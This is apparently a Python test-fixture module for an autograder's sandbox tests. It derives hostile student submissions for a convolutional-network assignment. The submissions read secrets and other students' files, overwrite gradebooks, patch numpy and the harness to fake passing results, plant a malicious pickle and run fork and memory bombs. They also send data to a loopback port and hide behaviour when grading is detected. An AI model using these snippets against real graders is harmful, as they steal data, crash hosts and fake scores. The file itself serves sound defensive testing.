"""The hostile and broken submissions of issue 5, each derived from the correct one.

Every :class:`Hostile` names a student id, how to derive its folder from a copy
of the correct submission (``apply(folder, targets)``), which test groups it
must score nothing in (``zeroed``), which groups it must score exactly what
the honest student scores (``intact``: the attack must not spill over), and an
optional ``check(record, batch)`` for what is specific to the case. Every
other group may score at most what the honest student scores.

``targets`` (:class:`Targets`) holds the host paths an attacker would aim at;
the attack code embeds them, as a student who read the grader's source would.
"""
import json
import os
import pickle
import re
import shutil
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace

import numpy as np

from hostile_patches import append_code, edit_notebook_cell, prepend_code, replace_function

GROUPS = ("conv_forward_naive", "conv_backward_naive", "max_pool_forward_naive",
          "max_pool_backward_naive", "conv_relu_pool", "spatial_batchnorm_forward",
          "spatial_batchnorm_backward", "three_layer_convnet", "cifar10_accuracy")
CODE_GROUPS = GROUPS[:-1]
CONV_LAYERS = "nndl/conv_layers.py"
# groups that never call spatial_batchnorm_backward or conv_forward_naive
NOT_BN_BACKWARD = set(GROUPS[:6])
NOT_CONV_FORWARD = {"max_pool_forward_naive", "max_pool_backward_naive", "conv_relu_pool",
                    "spatial_batchnorm_forward", "spatial_batchnorm_backward",
                    "three_layer_convnet"}


@dataclass
class Targets:
    """Host paths and ports a hostile submission aims at."""
    secret: Path
    submissions: Path
    out: Path
    canary: Path
    gradebook: Path
    reference_dir: Path
    grader_dir: Path
    site_packages: Path
    marker: Path            # must never exist: created only if a pickle is ever loaded
    port: int               # a listener on the host's 127.0.0.1
    probe_name: str = "zz_hostile_probe.py"

    def as_text(self):
        """The same targets with paths as plain strings, for formatting into attack code."""
        return SimpleNamespace(**{k: str(v) if isinstance(v, Path) else v
                                  for k, v in vars(self).items()})


@dataclass
class Hostile:
    sid: str
    issue_bullet: str
    apply: object
    zeroed: set = field(default_factory=set)
    intact: set = field(default_factory=set)
    check: object = None


def _statuses(record, group):
    g = next(g for g in record["groups"] if g["name"] == group)
    return [c["status"] for c in g["cases"]]


def _messages(record, group=None):
    return " ".join(c["message"] for g in record["groups"] if group in (None, g["name"])
                    for c in g["cases"]) + " " + record.get("reason", "")


def _replace(name, code, qualname=None, path=CONV_LAYERS):
    def apply(folder, t):
        replace_function(folder / path, qualname or name, code.format(t=t.as_text()))
    return apply


def _append(code, path=CONV_LAYERS):
    def apply(folder, t):
        append_code(folder / path, code.format(t=t.as_text()))
    return apply


def _in_bn_backward(body):
    """Replace spatial_batchnorm_backward with ``body`` (an attack that never returns)."""
    return _replace("spatial_batchnorm_backward",
                    "def spatial_batchnorm_backward(dout, cache):\n"
                    + "\n".join("    " + line for line in body.strip("\n").splitlines()))


def _first_case(status_set, group="spatial_batchnorm_backward", words=()):
    def check(record, batch):
        first = _statuses(record, group)[0]
        assert first in status_set, (group, first, _messages(record, group)[:500])
        text = _messages(record, group)
        for word in words:
            assert word in text, (word, text[:800])
    return check


# ------------------------------------------------------------------- reading

READS = """
def conv_forward_naive(x, w, b, conv_param):
    import os
    seen = {{}}
    stolen = None
    try:
        import cnnkit.reference.conv_layers as reference
        return reference.conv_forward_naive(x, w, b, conv_param)
    except ImportError as err:
        seen["import cnnkit.reference"] = type(err).__name__
    paths = [{t.secret!r}, {t.canary!r}, {t.gradebook!r},
             os.path.join({t.grader_dir!r}, "cases.py"), os.path.join({t.grader_dir!r}, "testbank.py"),
             os.path.join({t.reference_dir!r}, "conv_layers.py"),
             os.path.join({t.submissions!r}, "honest_full", "nndl", "conv_layers.py"),
             {t.out!r}, {t.submissions!r}, "/work", "/root", "/home"]
    for path in paths:
        try:
            if os.path.isdir(path):
                seen[path] = sorted(os.listdir(path))[:5]
            else:
                with open(path) as handle:
                    text = handle.read()
                seen[path] = len(text)
                if path.endswith("conv_layers.py"):
                    stolen = text
        except OSError as err:
            seen[path] = type(err).__name__
    seen["/"] = sorted(os.listdir("/"))
    if stolen:
        namespace = {{}}
        exec(stolen, namespace)
        return namespace["conv_forward_naive"](x, w, b, conv_param)
    raise RuntimeError("nothing to steal: " + repr(seen))
"""


def _check_reads(record, batch):
    text = _messages(record, "conv_forward_naive")
    assert "nothing to steal" in text, text[:800]
    assert f"{str(batch.targets.secret)!r}: 'FileNotFoundError'" in text, text[:1500]
    assert re.search(r"'import cnnkit.reference': '(ModuleNotFound|Import)Error'", text), text


# ------------------------------------------------------------------- writing

WRITES = """
import os as _os
for _path in [{t.secret!r}, {t.canary!r}, {t.gradebook!r},
              _os.path.join({t.out!r}, "grades.csv"),
              _os.path.join({t.out!r}, "honest_full", "grade.json"),
              _os.path.join({t.out!r}, "honest_full", "results.json"),
              _os.path.join({t.submissions!r}, "honest_full", "nndl", "conv_layers.py"),
              _os.path.join({t.grader_dir!r}, {t.probe_name!r}),
              _os.path.join({t.reference_dir!r}, {t.probe_name!r}),
              _os.path.join({t.site_packages!r}, "zz_hostile_probe.pth")]:
    try:
        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
        with open(_path, "a") as _handle:
            _handle.write("# overwritten by a hostile submission\\n")
    except OSError:
        pass
"""


# ------------------------------------------------------------------ patching

PATCHES_COMPARISONS = """
import builtins as _builtins, math as _math
import numpy as _np
_np.allclose = lambda *a, **k: True
_np.isclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
_math.isclose = lambda *a, **k: True
_builtins.all = lambda *a, **k: True
_real_conv = conv_forward_naive
def conv_forward_naive(x, w, b, conv_param):
    out, cache = _real_conv(x, w, b, conv_param)
    return out * 0 + 1, cache
"""

PATCHES_HARNESS = """
import json as _json, os as _os, sys as _sys
import numpy as _np
_h = _sys.modules.get("__main__")
def _fake_outputs(call, arrays):
    return {{"out": _np.zeros(1), "dx": _np.zeros(1), "dw": _np.zeros(1), "db": _np.zeros(1),
            "scores": _np.zeros(1), "loss": _np.zeros(1), "labels": _np.zeros(1, dtype=_np.int64)}}
if _h is not None and hasattr(_h, "RUNNERS"):
    for _kind in list(_h.RUNNERS):
        _h.RUNNERS[_kind] = _fake_outputs
    _h.as_plain_array = lambda value, what: _np.zeros(1)
    _h.student_error = lambda err: "ok"
    _real_write = _h.write_json
    _h.write_json = lambda path, data: _real_write(path, {{"status": "ok", "error": "",
                                                          "tripwire": []}})
_os.makedirs("outputs", exist_ok=True)
for _i in range(10):
    with open(f"outputs/case_{{_i:03d}}.json", "w") as _f:
        _json.dump({{"status": "ok", "error": "", "tripwire": []}}, _f)
"""

TAMPERS_OUTPUTS = """
def conv_forward_naive(x, w, b, conv_param):
    import os
    os.makedirs("outputs", exist_ok=True)
    for i in range(10):
        for suffix in (".json", ".npz"):
            path = f"outputs/case_{{i:03d}}{{suffix}}"
            if os.path.lexists(path):
                os.remove(path)
        os.mkfifo(f"outputs/case_{{i:03d}}.json")
        os.symlink({t.secret!r} if i % 2 else "/dev/stdin", f"outputs/case_{{i:03d}}.npz")
    os._exit(0)
"""

FAKE_ARRAYS = {
    "conv_forward_naive": """
def conv_forward_naive(x, w, b, conv_param):
    class AlwaysEqual(np.ndarray):
        def __eq__(self, other):
            return True
        __ne__ = lambda self, other: False
    stride, pad = conv_param['stride'], conv_param['pad']
    shape = (x.shape[0], w.shape[0], 1 + (x.shape[2] + 2 * pad - w.shape[2]) // stride,
             1 + (x.shape[3] + 2 * pad - w.shape[3]) // stride)
    return np.zeros(shape).view(AlwaysEqual), (x, w, b, conv_param)
""",
    "conv_backward_naive": """
def conv_backward_naive(dout, cache):
    x, w, b, conv_param = cache
    return (np.zeros(x.shape, dtype=complex), np.array([object()] * w.size, dtype=object),
            np.array(["0.0"] * b.size))
""",
    "max_pool_forward_naive": """
def max_pool_forward_naive(x, pool_param):
    class PretendArray:
        shape = x.shape
        def __array__(self, dtype=None, copy=None):
            return np.zeros(x.shape)
        def __eq__(self, other):
            return True
    return PretendArray(), (x, pool_param)
""",
    "max_pool_backward_naive": """
def max_pool_backward_naive(dout, cache):
    return np.broadcast_to(np.float64(0.0), (10**6, 10**6))
""",
    "spatial_batchnorm_forward": """
def spatial_batchnorm_forward(x, gamma, beta, bn_param):
    return np.full(x.shape, np.nan), (x, gamma, beta, bn_param)
""",
    "spatial_batchnorm_backward": """
def spatial_batchnorm_backward(dout, cache):
    return [[1.0, 2.0], [3.0]], np.inf * np.ones(3), None
""",
}

FAKE_ARRAYS_UTILS = """
def conv_relu_pool_forward(x, w, b, conv_param, pool_param):
    return np.full((x.shape[0], w.shape[0], 10**5, 10**5), np.inf, dtype=np.float16), None
"""

FAKE_ARRAYS_MODEL = """
def loss(self, X, y=None):
    if y is None:
        return np.full((X.shape[0], 10), np.inf)
    return float("nan"), {k: np.full(v.shape, np.inf) for k, v in self.params.items()}
"""


def _fake_arrays(folder, t):
    for name, code in FAKE_ARRAYS.items():
        replace_function(folder / CONV_LAYERS, name, code)
    replace_function(folder / "nndl/conv_layer_utils.py", "conv_relu_pool_forward",
                     FAKE_ARRAYS_UTILS)
    append_code(folder / "nndl/conv_layer_utils.py", "import numpy as np")
    replace_function(folder / "nndl/cnn.py", "ThreeLayerConvNet.loss", FAKE_ARRAYS_MODEL)


def _check_fake_model(record, batch):
    """Only the untouched ThreeLayerConvNet.__init__ cases may pass; every loss case fails."""
    group = next(g for g in record["groups"] if g["name"] == "three_layer_convnet")
    honest = next(g for g in batch.records["honest_full"]["groups"]
                  if g["name"] == "three_layer_convnet")
    assert group["score"] < honest["score"]
    for case in group["cases"]:
        assert case["status"] == "passed" or "scores" in case["message"] or (
            "loss" in case["message"]), case


# An inexpensive wrong forward/backward pair that are each other's derivative:
# no convolution computed anywhere, so no credit is earned for either.
CONSISTENT_FAKES = {
    "conv_forward_naive": """
def conv_forward_naive(x, w, b, conv_param):
    stride, pad = conv_param['stride'], conv_param['pad']
    shape = (x.shape[0], w.shape[0], 1 + (x.shape[2] + 2 * pad - w.shape[2]) // stride,
             1 + (x.shape[3] + 2 * pad - w.shape[3]) // stride)
    return np.zeros(shape) + x.sum() + w.sum() + b.sum(), (x, w, b, conv_param)
""",
    "conv_backward_naive": """
def conv_backward_naive(dout, cache):
    x, w, b, conv_param = cache
    total = dout.sum()
    return np.full(x.shape, total), np.full(w.shape, total), np.full(b.shape, total)
""",
}


def _consistent_fakes(folder, t):
    for name, code in CONSISTENT_FAKES.items():
        replace_function(folder / CONV_LAYERS, name, code)


# ---------------------------------------------------------- malicious pickle

class _Payload:
    """Unpickling this creates ``marker`` (it must never happen in the grader)."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (os.mkdir, (self.marker,))


def _malicious_checkpoint(folder, t):
    ckpt = folder / "checkpoints"
    ckpt.mkdir(exist_ok=True)
    bomb = np.empty(1, dtype=object)
    bomb[0] = _Payload(t.marker)
    np.savez(ckpt / "challenge.npz", W1=bomb, W2=bomb)
    (ckpt / "challenge.json").write_text(json.dumps(
        {"module": "nndl.cnn", "class": "ThreeLayerConvNet", "kwargs": {}}))
    (ckpt / "challenge.pkl").write_bytes(pickle.dumps(_Payload(t.marker)))


def _check_checkpoint(record, batch):
    assert _statuses(record, "cifar10_accuracy") == ["error"], _messages(record)[-600:]
    assert "allow_pickle" in _messages(record, "cifar10_accuracy"), _messages(record)[-600:]
    assert not batch.targets.marker.exists()


def _check_huge_file(record, batch):
    """Stopped by the file size limit, or by the folder size check, whichever came first."""
    _first_case({"error", "crashed", "timeout"})(record, batch)
    text = _messages(record, "spatial_batchnorm_backward")
    assert "File too large" in text or "killed: its folder held" in text, text[:800]


# ------------------------------------------------------------------ network

NETWORK = """
import socket as _socket
for _host in ("127.0.0.1", "::1", "localhost"):
    try:
        with _socket.create_connection((_host, {t.port}), timeout=1) as _s:
            _s.sendall(b"exfiltrated")
    except OSError:
        pass
"""

# ----------------------------------------------------------- detects grading

DETECTS = """
import os as _os
_SIGNS = ("CNNKIT", "NBGRADER", "GRADE", "SECRET", "AUTOGRAD", "GRADESCOPE")
if any(sign in key.upper() for key in _os.environ for sign in _SIGNS):
    def conv_forward_naive(x, w, b, conv_param):
        raise RuntimeError("grading detected from the environment: " + repr(dict(_os.environ)))
"""


# ------------------------------------------------------------------ broken

def _invalid_notebook(folder, t):
    (folder / "1-ConvLayers.ipynb").write_text('{"cells": [ this is not JSON')


def _missing_file(folder, t):
    (folder / CONV_LAYERS).unlink()


def _wrong_layout(folder, t):
    for path in list((folder / "nndl").iterdir()):
        shutil.move(str(path), folder / path.name)
    (folder / "nndl").rmdir()
    for path in list((folder / "utils").iterdir()):
        shutil.move(str(path), folder / ("utils_" + path.name))
    (folder / "utils").rmdir()


def _non_utf8(folder, t):
    path = folder / CONV_LAYERS
    path.write_bytes(path.read_bytes() + b"\nAUTHOR = 'Ren\xe9e'  # saved as latin-1\n")


def _syntax_error(folder, t):
    append_code(folder / CONV_LAYERS, "def unfinished(x:\n    return x")


def _missing_package(folder, t):
    prepend_code(folder / CONV_LAYERS, "import notinstalled_pkg_cnnkit_hostile")


def _check_graded_with_message(*words):
    def check(record, batch):
        assert record["status"] == "graded", record["reason"]
        text = _messages(record)
        for word in words:
            assert word in text, (word, text[:800])
    return check


def _check_ungradable(*words):
    def check(record, batch):
        assert record["status"] == "ungradable"
        for word in words:
            assert word in record["reason"], record["reason"]
    return check


def _special_files(folder, t):
    nndl = folder / "nndl"
    os.mkfifo(nndl / "notes.txt")
    os.symlink(t.secret, nndl / "secret_link.py")
    os.symlink("/dev/stdin", nndl / "stdin_link.py")
    os.symlink("/", folder / "root_link")


# --------------------------------------------------------- notebook edits

def _delete_test_cell(folder, t):
    edit_notebook_cell(folder / "1-ConvLayers.ipynb", "conv_forward_naive",
                       lambda cells, i: cells.pop(i))


def _edit_test_cell(folder, t):
    def change(cells, i):
        cells[i]["source"] = "# the check passes now\npass\n"
    edit_notebook_cell(folder / "1-ConvLayers.ipynb", "conv_backward_naive", change)


def _edit_locked_cell(folder, t):
    def change(cells, i):
        cells[i]["source"] = "import os\nos.environ['GRADER'] = 'fooled'\n" + "".join(
            cells[i]["source"])
    edit_notebook_cell(folder / "2-SpatialBatchNorm.ipynb", "setup", change)


# ----------------------------------------------------------------- catalogue

def _stay(*groups):
    return set(groups)


CASES = [
    # reads hidden tests, the secret, the reference, another student's files; lists /
    Hostile("reads_files", "reads hidden tests, secret, reference, other students; lists /",
            _replace("conv_forward_naive", READS), zeroed={"conv_forward_naive"},
            intact=NOT_CONV_FORWARD, check=_check_reads),
    # writes outside its folder (then behaves honestly: it earns what it computes)
    Hostile("writes_outside", "writes the gradebook, OUT/, other students' results, grader code",
            _append(WRITES), intact=set(GROUPS)),
    # patches numpy / math.isclose / builtins
    Hostile("patches_comparisons", "patches numpy, math.isclose, builtins",
            _append(PATCHES_COMPARISONS), zeroed={"conv_forward_naive"}),
    Hostile("patches_harness", "patches the harness", _append(PATCHES_HARNESS),
            zeroed=set(CODE_GROUPS)),
    Hostile("tampers_outputs", "replaces result files by FIFOs and symlinks",
            _replace("conv_forward_naive", TAMPERS_OUTPUTS), zeroed={"conv_forward_naive"},
            intact=NOT_CONV_FORWARD),
    Hostile("fake_arrays", "objects pretending to be arrays, NaN, inf, wrong dtype, huge/ragged",
            _fake_arrays, zeroed=set(CODE_GROUPS) - {"three_layer_convnet"},
            check=_check_fake_model),
    Hostile("consistent_fakes", "a wrong forward with its own exact derivative",
            _consistent_fakes, zeroed={"conv_forward_naive", "conv_backward_naive"},
            intact=NOT_CONV_FORWARD),
    Hostile("malicious_checkpoint", "malicious pickle / .npz with object arrays as checkpoint",
            _malicious_checkpoint, intact=set(CODE_GROUPS), check=_check_checkpoint),
    # process attacks
    Hostile("sys_exit", "sys.exit", _replace("conv_forward_naive",
            "def conv_forward_naive(x, w, b, conv_param):\n    import sys\n    sys.exit(0)"),
            zeroed={"conv_forward_naive"}, intact=NOT_CONV_FORWARD,
            check=_first_case({"error"}, "conv_forward_naive", ["sys.exit(0)"])),
    Hostile("os_exit", "os._exit at import", _append("import os as _os\n_os._exit(0)"),
            zeroed=set(CODE_GROUPS),
            check=_first_case({"crashed"}, "conv_forward_naive", ["os._exit"])),
    Hostile("kills_parent", "os.kill of its parent, kill -1",
            _in_bn_backward("import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\n"
                            "except OSError:\n    pass\nos.kill(-1, signal.SIGKILL)"),
            zeroed={"spatial_batchnorm_backward"}, intact=NOT_BN_BACKWARD,
            check=_first_case({"crashed", "error"})),
    Hostile("segfault", "segfault (ctypes)",
            _in_bn_backward("import ctypes\nctypes.string_at(0)"),
            zeroed={"spatial_batchnorm_backward"}, intact=NOT_BN_BACKWARD,
            check=_first_case({"crashed"}, words=["SIGSEGV"])),
    Hostile("infinite_recursion", "infinite recursion",
            _in_bn_backward("import sys\nsys.setrecursionlimit(10**7)\n"
                            "def deeper(n):\n    return deeper(n + 1) + 1\ndeeper(0)"),
            zeroed={"spatial_batchnorm_backward"}, intact=NOT_BN_BACKWARD,
            check=_first_case({"crashed", "error", "oom", "timeout"})),
    Hostile("infinite_loop", "infinite loop", _in_bn_backward("while True:\n    pass"),
            zeroed={"spatial_batchnorm_backward"}, intact=NOT_BN_BACKWARD,
            check=_first_case({"timeout"})),
    Hostile("sleep_forever", "sleep forever",
            _in_bn_backward("import time\ntime.sleep(10**6)"),
            zeroed={"spatial_batchnorm_backward"}, intact=NOT_BN_BACKWARD,
            check=_first_case({"timeout"})),
    Hostile("disables_timer", "stops the harness's per-group timer, then sleeps forever",
            _in_bn_backward("import signal, time\nsignal.setitimer(signal.ITIMER_REAL, 0)\n"
                            "signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                            "time.sleep(10**6)"),
            zeroed={"spatial_batchnorm_backward"}, intact=NOT_BN_BACKWARD,
            check=_first_case({"timeout", "crashed"})),
    Hostile("fork_bomb", "fork bomb",
            _in_bn_backward("import os\nwhile True:\n    try:\n        os.fork()\n"
                            "    except OSError:\n        pass"),
            zeroed={"spatial_batchnorm_backward"}, intact=NOT_BN_BACKWARD,
            check=_first_case({"timeout", "crashed", "error", "oom"})),
    Hostile("thread_bomb", "thread bomb",
            _in_bn_backward("import threading, time\nwhile True:\n"
                            "    threading.Thread(target=time.sleep, args=(600,), "
                            "daemon=True).start()"),
            zeroed={"spatial_batchnorm_backward"}, intact=NOT_BN_BACKWARD,
            check=_first_case({"error", "crashed", "timeout", "oom"})),
    Hostile("memory_bomb", "memory bomb",
            _in_bn_backward("hog = []\nwhile True:\n    hog.append(np.ones(10**7))"),
            zeroed={"spatial_batchnorm_backward"}, intact=NOT_BN_BACKWARD,
            check=_first_case({"oom", "error"}, words=["MemoryError"])),
    Hostile("output_flood", "10 GB of output",
            _in_bn_backward("import sys\nblock = 'x' * (1 << 20)\nfor _ in range(10 * 1024):\n"
                            "    sys.stdout.write(block)\n    sys.stderr.write(block)"),
            zeroed={"spatial_batchnorm_backward"}, intact=NOT_BN_BACKWARD,
            check=_first_case({"timeout", "crashed", "error"})),
    Hostile("huge_file", "a huge file",
            _in_bn_backward("block = b'x' * (1 << 20)\nwith open('huge.bin', 'wb') as f:\n"
                            "    for _ in range(10 * 1024):\n        f.write(block)"),
            zeroed={"spatial_batchnorm_backward"}, intact=NOT_BN_BACKWARD,
            check=_check_huge_file),
    Hostile("network", "opens network connections (loopback)", _append(NETWORK),
            intact=set(GROUPS)),
    Hostile("detects_grading", "detects grading from environment variables", _append(DETECTS),
            intact=set(GROUPS)),
    # broken submissions
    Hostile("invalid_notebook_json", "a notebook that is not valid JSON", _invalid_notebook,
            intact=set(GROUPS)),
    Hostile("missing_file", "a missing file", _missing_file,
            zeroed={"conv_forward_naive", "conv_backward_naive", "max_pool_forward_naive",
                    "max_pool_backward_naive", "spatial_batchnorm_forward",
                    "spatial_batchnorm_backward"},
            check=_check_graded_with_message("nndl/conv_layers.py is missing")),
    Hostile("wrong_layout", "wrong folder layout", _wrong_layout, zeroed=set(GROUPS),
            check=_check_ungradable("no nndl/ folder")),
    Hostile("non_utf8_source", "non-UTF-8 source", _non_utf8, zeroed=set(CODE_GROUPS),
            check=_check_graded_with_message("SyntaxError")),
    Hostile("syntax_error", "a syntax error", _syntax_error, zeroed=set(CODE_GROUPS),
            check=_check_graded_with_message("SyntaxError", "conv_layers.py")),
    Hostile("missing_package", "imports a package that is not installed", _missing_package,
            zeroed=set(CODE_GROUPS),
            check=_check_graded_with_message("notinstalled_pkg_cnnkit_hostile")),
    Hostile("special_files", "a FIFO and symlinks (to the secret, /dev/stdin, /) in its folder",
            _special_files, intact=set(GROUPS)),
    # notebook edits: graded from the instructor's copies (the .py files decide)
    Hostile("deleted_test_cell", "deleted test cell", _delete_test_cell, intact=set(GROUPS)),
    Hostile("edited_test_cell", "edited test cell", _edit_test_cell, intact=set(GROUPS)),
    Hostile("edited_locked_cell", "edited locked cell", _edit_locked_cell, intact=set(GROUPS)),
]

#: what the grader must report for each notebook case: (notebook, grade_id, problem)
NOTEBOOK_EDITS = {
    "deleted_test_cell": ("1-ConvLayers.ipynb", "conv_forward_naive",
                          "cell deleted (or its nbgrader metadata removed)"),
    "edited_test_cell": ("1-ConvLayers.ipynb", "conv_backward_naive", "cell edited"),
    "edited_locked_cell": ("2-SpatialBatchNorm.ipynb", "setup", "cell edited"),
    "invalid_notebook_json": ("1-ConvLayers.ipynb", "",
                              "not a readable notebook (JSONDecodeError)"),
}

BY_SID = {case.sid: case for case in CASES}
